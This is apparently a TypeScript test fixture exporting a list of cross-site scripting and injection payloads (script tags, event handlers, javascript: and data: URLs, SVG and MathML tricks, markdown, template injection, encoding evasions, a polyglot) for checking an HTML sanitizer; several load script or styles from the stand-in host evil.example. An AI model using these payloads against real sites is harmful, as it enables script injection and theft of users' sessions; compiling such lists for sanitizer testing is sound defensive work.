/**
 * Texts that would do something if the page took them for more than text: what is known to have
 * worked somewhere (OWASP, PortSwigger, html5sec), with `P` in place of the deed.
 */

/** The deed: leaves a mark that a test looks for. */
const P = 'window.pwned=1'

const payloads = [
  // Plain markup.
  `<script>${P}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${P}</scr</script>ipt>`,
  `</p></article><script>${P}</script>`,
  `<img src=x onerror=${P}>`,
  `<img src="x" onerror="${P}" /><b>bold</b>`,
  `<img/src/onerror=${P}>`,
  `<img src=x:x onerror\n=\n${P}>`,
  `<IMG """><SCRIPT>${P}</SCRIPT>">`,
  `<body onload=${P}>`,
  `<input autofocus onfocus=${P}>`,
  `<select autofocus onfocus=${P}>`,
  `<textarea autofocus onfocus=${P}>`,
  `<details open ontoggle=${P}>`,
  `<video><source onerror=${P}></video>`,
  `<audio src=x onerror=${P}>`,
  `<marquee onstart=${P}>`,
  `<iframe src="javascript:parent.${P}"></iframe>`,
  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<object data="javascript:${P}"></object>`,
  `<embed src="javascript:${P}">`,
  `<form action="javascript:${P}"><button>x</button></form>`,
  `<button formaction="javascript:${P}">x</button>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<div style="background:url(https://evil.example/x)">`,
  `<template><script>${P}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<xss style="animation-name:x" onanimationend=${P}>`,
  // SVG and MathML, where other rules of parsing hold.
  `<svg onload=${P}>`,
  `<svg><script>${P}</script></svg>`,
  `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${P}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${P}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${P}</script>">`,
  `<math href="javascript:${P}">CLICK</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`,
  `<math><mi xlink:href="data:x,<script>${P}</script>">`,
  // Addresses.
  `javascript:${P}`,
  `JaVaScRiPt:${P}`,
  `java\tscript:${P}`,
  `javascript://evil.example/%0A${P}`,
  `data:text/html,<script>${P}</script>`,
  `vbscript:msgbox(1)`,
  `https://wiki.example/"onmouseover="${P}`,
  `https://wiki.example/'><script>${P}</script>`,
  `https://wiki.example/<img src=x onerror=${P}>`,
  `https://evil.example@wiki.example:80/x`,
  // Markdown, as far as somebody renders it.
  `[x](javascript:${P})`,
  `![x](x"onerror="${P})`,
  `![x](https://evil.example/x.png)`,
  `[x]: javascript:${P}\n[x]`,
  `<https://wiki.example/" onclick="${P}>`,
  '```html\n<script>' + P + '</script>\n```',
  // Templates.
  `{{constructor.constructor('${P}')()}}`,
  `\${${P}}`,
  `{@html '<img src=x onerror=${P}>'}`,
  `<%= ${P} %>`,
  `#{${P}}`,
  `{{7*7}}`,
  // Out of an attribute, a script, a comment.
  `" autofocus onfocus=${P} x="`,
  `'-${P}-'`,
  `';${P}//`,
  `\\";${P}//`,
  `</script><script>${P}</script>`,
  `--><script>${P}</script>`,
  `]]><script>${P}</script>`,
  `</title><script>${P}</script>`,
  `</textarea><script>${P}</script>`,
  // Encodings, directions, and things that cannot be seen.
  `&lt;script&gt;${P}&lt;/script&gt;`,
  `&#60;img src=x onerror=${P}&#62;`,
  `%3Cscript%3E${P}%3C/script%3E`,
  `\\u003cscript\\u003e${P}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${P}+ADw-/script+AD4-`,
  `\u202E<tpircs>1=denwp.wodniw\u202C`,
  `\u2066${P}\u2069\u200B\u200D\uFEFF`,
  `＜script＞${P}＜/script＞`,
  `<img src=x onerror\u2028=${P}>`,
  // One for every place.
  `jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=${P} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/oNloAd=${P}//>\\x3e`,
  `__proto__`,
  `constructor`,
]

/** No two alike. */
export const markupPayloads: readonly string[] = [...new Set(payloads)]
